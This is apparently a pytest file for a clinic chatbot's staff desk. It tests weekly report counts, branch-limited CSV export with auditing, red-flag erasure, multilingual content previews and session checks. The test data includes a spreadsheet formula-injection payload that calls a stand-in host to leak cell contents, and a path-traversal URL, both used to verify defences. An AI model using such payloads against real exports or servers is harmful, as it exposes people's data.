"""The desk's reports over HTTP: the overview counts known records into the last eight ISO weeks (bookings
of the staff member's branches only, no personal text), red flags met through the bot are counted and
erased with the person; the CSV export (header, rows, branches, formula guard, audit, headers); the
content preview (every point and zone, Arabic right to left, pictures); no session, no report."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import httpx
import pytest
from markupsafe import escape

from bot.desk.reports import iso_weeks, safe_cell
from bot.engine import Conversation, Forget, Knowledge, Record, TextReceived
from content.loader import default_content
from tests.conftest import T0
from tests.desk.conftest import PERSON, DeskWorld, inline_code, login, save_booking

CELL = re.compile(r"<t[hd][^>]*>(.*?)</t[hd]>", re.S)
ROW = re.compile(r"<tr>(.*?)</tr>", re.S)
TAG = re.compile(r"<[^>]+>")
WEEK = "2026-W47"  # T0 is Saturday 21 November 2026
LAST_WEEK = "2026-W46"


async def signed_in(
    world: DeskWorld, name: str = "amira", role: str = "staff", branches: tuple[str, ...] = ("dhcc",)
) -> httpx.AsyncClient:
    await world.add(name, role, branches)
    client = world.app()
    assert (await login(client, name)).status_code == 303
    return client


def rows(html: str) -> list[list[str]]:
    """Every table row's cells, as text."""
    found = []
    for row in ROW.findall(html):
        found.append([" ".join(TAG.sub(" ", cell).split()) for cell in CELL.findall(row)])
    return found


def summary(html: str, week: str) -> list[str]:
    """The overview's first table's row of one week: new people, sessions, bookings, red flags."""
    (row,) = [r for r in rows(html) if r[0].startswith(f"{week} from")]
    return r_cells(row)


def r_cells(row: list[str]) -> list[str]:
    return row[1:]


async def record(world: DeskWorld, key: str, what: str, at_days: float, /, **data: str) -> None:
    """A record saved as the runtime saves one, `at_days` days before T0."""
    at = T0 - timedelta(days=at_days)
    await world.store.commit_turn(key, Conversation(), (Record(what, tuple(data.items())),), at)


async def known_records(world: DeskWorld) -> None:
    """Beside the world's two bookings this week (dhcc by PERSON, main by a WhatsApp person): feedback and
    red flags this week and last, a booking last week, and one record too old to count."""
    await record(world, PERSON, "feedback", 0, item="KI1", feeling="better", at=T0.isoformat())
    await record(world, "telegram:2", "feedback", 1, item="KI1", feeling="worse", at="")
    await record(world, "telegram:2", "feedback", 1, item="zone:arch", feeling="same", at="")
    await record(world, "telegram:2", "red-flag", 1, kind="self-harm", severity="emergency")
    await record(world, "telegram:3", "feedback", 7, item="LR3", feeling="better", at="")
    await record(world, "telegram:3", "red-flag", 7, kind="bleeding", severity="urgent")
    await save_booking(world.store, "telegram:3", "RB-OLD1", "dhcc", "Layla Old", T0 - timedelta(days=7))
    await record(world, "telegram:4", "feedback", 60, item="KI1", feeling="better", at="")


async def test_the_overview_counts_the_last_eight_iso_weeks(world: DeskWorld) -> None:
    await known_records(world)
    client = await signed_in(world, "head", role="admin", branches=())
    page = await client.get("/desk/overview")
    assert page.status_code == 200 and page.headers["cache-control"] == "no-store"
    weeks = [r[0].split()[0] for r in rows(page.text) if " from " in r[0]]
    assert weeks == [f"2026-W{n}" for n in range(47, 39, -1)], "eight ISO weeks, newest first"
    # new people, sessions finished, bookings, red flags
    assert summary(page.text, WEEK) == ["3", "3", "2", "1"]
    assert summary(page.text, LAST_WEEK) == ["1", "1", "1", "1"]
    assert summary(page.text, "2026-W40") == ["0", "0", "0", "0"], "60 days ago is not counted"
    table = rows(page.text)
    assert [WEEK, "KI1", "2", "1", "0", "1"] in table
    assert [WEEK, "zone:arch", "1", "0", "1", "0"] in table
    assert [LAST_WEEK, "LR3", "1", "1", "0", "0"] in table
    assert [WEEK, "DHCC Branch", "New", "1"] in table and [WEEK, "Main Branch", "New", "1"] in table
    assert [LAST_WEEK, "DHCC Branch", "New", "1"] in table
    assert [WEEK, "self-harm", "emergency", "1"] in table and [LAST_WEEK, "bleeding", "urgent", "1"] in table


async def test_the_overview_holds_no_personal_text(world: DeskWorld) -> None:
    await known_records(world)
    client = await signed_in(world, "head", role="admin", branches=())
    page = await client.get("/desk/overview")
    requests = await world.store.booking_requests(None)
    for request in requests:
        for personal in (request.name, request.contact, request.when, request.summary.split("\n")[0], request.ref):
            assert personal and personal not in page.text and str(escape(personal)) not in page.text
    assert PERSON not in page.text and "telegram:2" not in page.text
    assert not inline_code(page.text)
    assert "script-src 'self'" in page.headers["content-security-policy"]


async def test_staff_count_their_branches_bookings_only(world: DeskWorld) -> None:
    await known_records(world)
    client = await signed_in(world, branches=("dhcc",))
    page = await client.get("/desk/overview")
    assert summary(page.text, WEEK) == ["3", "3", "1", "1"], "the main branch's booking is left out"
    assert "Main Branch" not in page.text and [WEEK, "DHCC Branch", "New", "1"] in rows(page.text)


async def test_the_weeks_follow_the_injected_clock(world: DeskWorld) -> None:
    await known_records(world)
    world.clock.advance(days=2)  # Monday 23 November: a new week begins
    client = await signed_in(world, "head", role="admin", branches=())
    page = await client.get("/desk/overview")
    assert summary(page.text, "2026-W48") == ["0", "0", "0", "0"]
    assert summary(page.text, WEEK) == ["3", "3", "2", "1"]
    assert "2026-W40" not in page.text
    assert iso_weeks(T0)[-1].isoformat() == "2026-11-16" and len(iso_weeks(T0)) == 8


async def test_a_red_flag_met_through_the_bot_is_counted_and_erased_with_the_person(
    world: DeskWorld, kb: Knowledge
) -> None:
    from bot.runtime import Runtime

    async def deliver(key: str, reply: object) -> None:
        return None

    runtime = Runtime(kb, world.store, deliver, default_tz=kb.policy.default_tz)
    await runtime.handle("telegram:5", TextReceived("I have chest pain and I can't breathe"), T0)
    (kept,) = await world.store.records("telegram:5", "red-flag")
    assert kept["severity"] == "emergency" and "chest" not in str(kept).replace(kept["kind"], "")
    client = await signed_in(world, "head", role="admin", branches=())
    page = await client.get("/desk/overview")
    assert summary(page.text, WEEK)[3] == "1"
    assert [WEEK, str(kept["kind"]), "emergency", "1"] in rows(page.text)
    await world.store.commit_turn("telegram:5", Conversation(), (Forget(),), T0)
    assert await world.store.records("telegram:5") == []
    assert summary((await client.get("/desk/overview")).text, WEEK)[3] == "0"


def read_csv(response: httpx.Response) -> list[list[str]]:
    assert response.content.startswith("\ufeff".encode()), "a BOM, so spreadsheets read the names as UTF-8"
    return list(csv.reader(io.StringIO(response.text.removeprefix("\ufeff"), newline="")))


async def test_the_csv_export_of_an_admin(world: DeskWorld) -> None:
    client = await signed_in(world, "head", role="admin", branches=())
    response = await client.get("/desk/requests.csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == 'attachment; filename="booking-requests-2026-11-21.csv"'
    assert response.headers["cache-control"] == "no-store"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.text.endswith("\r\n")
    header, *lines = read_csv(response)
    assert header == ["ref", "created_at", "branch", "status", "name", "contact", "preferred_time", "summary"]
    assert [line[0] for line in lines] == [world.main_ref, world.booked_ref], "newest first"
    main = lines[0]
    assert main[1:5] == [(T0 + timedelta(minutes=5)).isoformat(), "main", "new", "Omar Khalid"]
    assert main[5:] == ["'+971 55 000 0000", "tomorrow morning", "Bloating; pressed KI1."]
    (booked,) = [r for r in await world.store.booking_requests(None) if r.ref == world.booked_ref]
    assert lines[1][7] == booked.summary, "a summary over several lines stays one cell"
    (audit,) = [a for a in await world.store.audit_entries() if a.action == "export"]
    assert (audit.staff, audit.ref, audit.at) == ("head", "", T0)


async def test_staff_export_their_branches_only(world: DeskWorld) -> None:
    client = await signed_in(world, branches=("dhcc",))
    _, *lines = read_csv(await client.get("/desk/requests.csv"))
    assert [line[0] for line in lines] == [world.booked_ref]
    assert "Omar" not in (await client.get("/desk/requests.csv")).text
    assert [a.staff for a in await world.store.audit_entries() if a.action == "export"] == ["amira", "amira"]


async def test_the_csv_cannot_carry_a_formula(world: DeskWorld) -> None:
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    await save_booking(world.store, "telegram:6", "RB-EVIL", "dhcc", evil, T0 + timedelta(minutes=9))
    client = await signed_in(world, branches=("dhcc",))
    _, first, *_ = read_csv(await client.get("/desk/requests.csv"))
    assert first[0] == "RB-EVIL" and first[4] == "'" + evil
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Sara") == "Sara" and safe_cell("") == ""


async def test_the_content_preview_shows_every_point_and_zone(world: DeskWorld) -> None:
    content = default_content()
    client = await signed_in(world)
    page = await client.get("/desk/content")
    assert page.status_code == 200
    for code in content.points:
        assert f'id="{code}"' in page.text and f'href="/desk/pictures/{code}.right.png"' in page.text
    for zone in content.zones:
        assert f'id="zone-{zone}"' in page.text
    arabic = str(escape(content.points["KI1"].text["ar"].name))
    assert f'<dd lang="ar" dir="rtl">{arabic}</dd>' in page.text
    for lang in content.points["KI1"].text:
        side = "rtl" if lang in ("ar", "ur") else "ltr"
        assert f'<dd lang="{lang}" dir="{side}">' in page.text
    assert content.points["KI1"].sources[0] in page.text
    for translation in content.translations:
        assert translation.file in page.text
    assert not inline_code(page.text)


async def test_the_content_preview_by_language(world: DeskWorld) -> None:
    content = default_content()
    client = await signed_in(world)
    page = await client.get("/desk/content", params={"lang": "ar"})
    assert content.points["KI1"].text["en"].location in page.text.replace("&#39;", "'")
    assert 'lang="ar" dir="rtl"' in page.text and 'lang="ru"' not in page.text
    assert "text/ar/" in page.text and "text/ru/" not in page.text
    assert (await client.get("/desk/content", params={"lang": "xx"})).status_code == 200


async def test_pictures_are_served_by_known_names_only(world: DeskWorld) -> None:
    client = await signed_in(world)
    page = await client.get("/desk/content")
    links = re.findall(r'<img src="(/desk/pictures/[^"]+)"', page.text)
    zone_link = next(link for link in links if "zone" in link)
    for link in (links[0], zone_link):
        picture = await client.get(link)
        assert picture.status_code == 200 and picture.headers["content-type"] == "image/png"
        assert picture.content.startswith(b"\x89PNG")
    for unknown in ("/desk/pictures/XX9.right.png", "/desk/pictures/KI1.png", "/desk/pictures/..%2Fdesk.css.png"):
        assert (await client.get(unknown)).status_code == 404


@pytest.mark.parametrize(
    "path", ["/desk/overview", "/desk/requests.csv", "/desk/content", "/desk/pictures/KI1.right.png"]
)
async def test_no_session_no_report(world: DeskWorld, path: str) -> None:
    client = world.app()
    response = await client.get(path)
    assert response.status_code == 303 and response.headers["location"] == "/desk/login"
    assert not [a for a in await world.store.audit_entries() if a.action == "export"]
